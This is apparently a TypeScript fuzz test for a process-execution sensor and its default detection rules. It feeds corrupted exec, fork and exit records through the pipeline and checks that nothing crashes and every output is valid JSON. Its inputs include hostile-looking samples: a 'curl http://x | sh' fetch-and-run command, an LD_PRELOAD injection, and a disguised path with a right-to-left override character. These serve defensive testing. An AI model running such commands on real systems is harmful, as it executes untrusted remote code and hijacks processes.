import { type AnyInstance, definePlugin } from '@cws/core'
import { TestPipeline } from '@cws/core/testing'
import { rules } from '@cws/plugin-rules'
import defaults from '@cws/rules-default'
import { eventLine } from '../../../core/src/agent/event-lines.ts'
import type { LiveEvent } from '../../../core/src/model/event-class.ts'
import { connect } from '../../../plugins/process-exec/src/connect.ts'
import { optionsSchema } from '../../../plugins/process-exec/src/options.ts'
import { Scrubber } from '../../../plugins/process-exec/src/scrub.ts'
import { ProcessSensor } from '../../../plugins/process-exec/src/sensor.ts'
import { Records } from '../../../plugins/process-exec/test/records.ts'
import type { Random } from '../../support/seed.ts'

/** How many batches one process table sees: what an earlier one left in it is met by later ones. */
const BATCHES = 200
const PATHS = ['/usr/sbin/nginx', '/bin/sh', '/tmp/.x/\u202egpj', `/dev/shm/${'a'.repeat(4000)}`, '/usr/bin/curl', '/', '', '\n\0\x1b[2J']
const ARGUMENTS = [['sh', '-c', 'curl http://x | sh'], [], [''], ['--password=hunter2', '\ud800'], ['a'.repeat(9000)], Array(300).fill('b')]
/** Offsets, lengths and sizes that lie. */
const WORDS = [0, 1, 4, 7, 8, 32, 224, 296, 297, 2048, 4096, 0x7fff_ffff, 0x8000_0000, 0xffff_fff0, 0xffff_fff8, 0xffff_ffff]

interface Host {
  readonly sensor: ProcessSensor
  readonly pipeline: TestPipeline
  batches: number
}
let host: Host | undefined

/** The process sensor with the rules that come with the agent; each event is also written as a line. */
async function start(): Promise<Host> {
  const sensor = new ProcessSensor(optionsSchema.parse({ maxTableBytes: 2 * 1024 * 1024 }), () => 2_000_000_000_000n)
  sensor.table.loader = undefined
  const source = definePlugin(import.meta, {
    name: 'source',
    setup(ctx) {
      sensor.open('test', connect(ctx, sensor, new Scrubber({ enabled: true, words: [], patterns: [] })))
      for (const type of ['exec', 'fork', 'exit'] as const)
        ctx.detect(type, null, (event) => void JSON.parse(eventLine(event as unknown as LiveEvent)))
    },
  })
  const pipeline = await TestPipeline.of([source(), rules({ packs: [defaults] })] as readonly AnyInstance[])
  return { sensor, pipeline, batches: 0 }
}

async function stop({ sensor, pipeline }: Host): Promise<void> {
  sensor.close()
  await pipeline.stop()
}

function records(random: Random): { readonly batch: Records; readonly end: number } {
  const batch = new Records(96 * 1024)
  const pid = () => random.one([0, 1, 2, 10, 11, 12, 4242, 0xffff_ffff])
  for (let count = 1 + random.below(5); count > 0; count--) {
    const kind = random.below(4)
    if (kind < 2)
      batch.exec(pid(), random.one(PATHS), {
        argv: random.one(ARGUMENTS),
        envp: ['LD_PRELOAD=/tmp/x', 'B'],
        filename: random.one(PATHS),
        cgroup: random.one(PATHS),
      })
    else if (kind === 2) batch.fork(pid(), pid())
    else batch.exit(pid())
  }
  const { memory, writer } = batch
  for (let changes = random.below(10); changes > 0; changes--) {
    const at = random.below(writer.end >>> 2)
    memory.u32[at] = random.below(2) ? random.one(WORDS) : random.below(2 ** 32)
  }
  // Cut anywhere, or with what was there before behind it.
  return { batch, end: random.below(4) ? writer.end : random.below(writer.end + 64) }
}

/** Whatever the bytes are, no event that is made of them makes a plugin fail, a rule throw, or a line that is no JSON. */
export default async function run(random: Random): Promise<void> {
  if (host && host.batches >= BATCHES) {
    await stop(host)
    host = undefined
  }
  host ??= await start()
  host.batches++
  const { batch, end } = records(random)
  host.sensor.consume(batch.memory, 0, end)
  const [fault] = host.pipeline.faults
  if (fault) throw fault.error
  host.pipeline.findings.length = 0
  host.pipeline.signals.length = 0
}
